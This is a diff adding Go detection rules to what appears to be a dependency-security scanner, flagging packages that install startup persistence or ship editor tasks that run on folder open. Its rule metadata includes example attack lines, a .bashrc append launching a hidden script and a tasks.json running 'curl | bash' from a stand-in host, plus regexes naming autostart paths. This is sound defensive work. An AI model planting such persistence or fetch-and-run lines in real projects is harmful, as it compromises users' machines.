@@ -1,0 +1,96 @@
+// Package persist holds rules about persistence mechanisms.
+package persist
+
+import (
+	"context"
+	"fmt"
+	"regexp"
+	"strings"
+
+	"github.com/depfence/depfence/internal/analyze"
+	"github.com/depfence/depfence/internal/finding"
+	"github.com/depfence/depfence/internal/rules/rulekit"
+)
+
+// StartupEntry flags writes to autostart locations.
+type StartupEntry struct{}
+
+// Meta implements analyze.Rule.
+func (StartupEntry) Meta() analyze.Meta {
+	return analyze.Meta{
+		ID: "persist/startup-entry", Version: 1, Title: "Installs itself to run at startup",
+		Help: "Code writes to an autostart location (crontab, systemd units, LaunchAgents, the Windows Startup folder or Run key, shell rc files, " +
+			"CI workflow files) or runs crontab/schtasks/reg add/launchctl. A library never needs to survive a reboot.",
+		Remediation:     "Remove the package and check the named location for planted entries.",
+		Example:         `fs.appendFileSync(path.join(os.homedir(), ".bashrc"), "node ~/.cache/x.js &")`,
+		DefaultSeverity: finding.SeverityHigh, Signal: analyze.SigPersist, Needs: analyze.NeedCode,
+	}
+}
+
+var persistPath = regexp.MustCompile(`(?i)(/etc/cron|/var/spool/cron|\.config/systemd|/etc/systemd/system|/library/launch(agents|daemons)|start menu\\programs\\startup|\\currentversion\\run\b|\.bashrc|\.zshrc|\.bash_profile|\.profile$|\.github/workflows)`)
+var persistCmd = regexp.MustCompile(`(?i)(crontab\s|schtasks\s+/create|reg\s+add\s+\S*\\run\b|launchctl\s+(load|bootstrap)|systemctl\s+(--user\s+)?enable)`)
+
+// Check implements analyze.Rule.
+func (StartupEntry) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter) error {
+	for _, f := range rulekit.Code(ctx, t) {
+		writes := false
+		for _, c := range f.Facts.Calls {
+			switch rulekit.Last(c.Callee) {
+			case "writeFile", "writeFileSync", "appendFile", "appendFileSync", "createWriteStream", "copyFile", "copyFileSync":
+				writes = true
+			}
+			if rulekit.IsSpawn(c) {
+				if m := persistCmd.FindString(rulekit.SpawnCommand(c)); m != "" {
+					r.Report(analyze.Instance{File: f.Name, Line: c.Pos.Line, Message: "registers a startup task: " + m, Evidence: rulekit.Ev(c.Snippet, rulekit.SpawnCommand(c), "")})
+				}
+			}
+		}
+		if !writes {
+			continue
+		}
+		for _, s := range f.Facts.Strings {
+			if len(s.Value) > 1024 {
+				continue
+			}
+			if m := persistPath.FindString(s.Value); m != "" {
+				r.Report(analyze.Instance{File: f.Name, Line: s.Pos.Line, Message: fmt.Sprintf("writes files and names autostart location %q", m), Evidence: rulekit.Ev(s.Snippet, s.Value, "")})
+				break
+			}
+		}
+	}
+	return nil
+}
+
+// IDEAutorun flags editor tasks that run on folder open.
+type IDEAutorun struct{}
+
+// Meta implements analyze.Rule.
+func (IDEAutorun) Meta() analyze.Meta {
+	return analyze.Meta{
+		ID: "persist/ide-autorun", Version: 1, Title: "Runs a command when the folder is opened in an editor",
+		Help: "The package or project ships .vscode/tasks.json with \"runOn\": \"folderOpen\": opening the folder runs the task. Fake job-interview " +
+			"projects use it to run curl | bash the moment the candidate opens the code.",
+		Remediation:     "Do not open the folder in a trusting editor; delete the task.",
+		Example:         `{"label": "init", "command": "curl -s https://x.example/s | bash", "runOptions": {"runOn": "folderOpen"}}`,
+		DefaultSeverity: finding.SeverityHigh, Signal: analyze.SigPersist, Needs: analyze.NeedFiles,
+	}
+}
+
+// Check implements analyze.Rule.
+func (IDEAutorun) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter) error {
+	for _, name := range t.Files() {
+		if !strings.HasSuffix(name, ".vscode/tasks.json") && name != ".vscode/tasks.json" {
+			continue
+		}
+		b, err := t.Read(name)
+		if err != nil || !strings.Contains(string(b), "folderOpen") {
+			continue
+		}
+		sev := finding.SeverityHigh
+		if rulekit.ShellDanger(string(b)) != "" || strings.Contains(string(b), "curl") || strings.Contains(string(b), "wget") || strings.Contains(string(b), "powershell") {
+			sev = finding.SeverityCritical
+		}
+		r.Report(analyze.Instance{File: name, Severity: sev, Confidence: finding.ConfidenceHigh, Message: "editor task runs automatically on folder open"})
+	}
+	return nil
+}
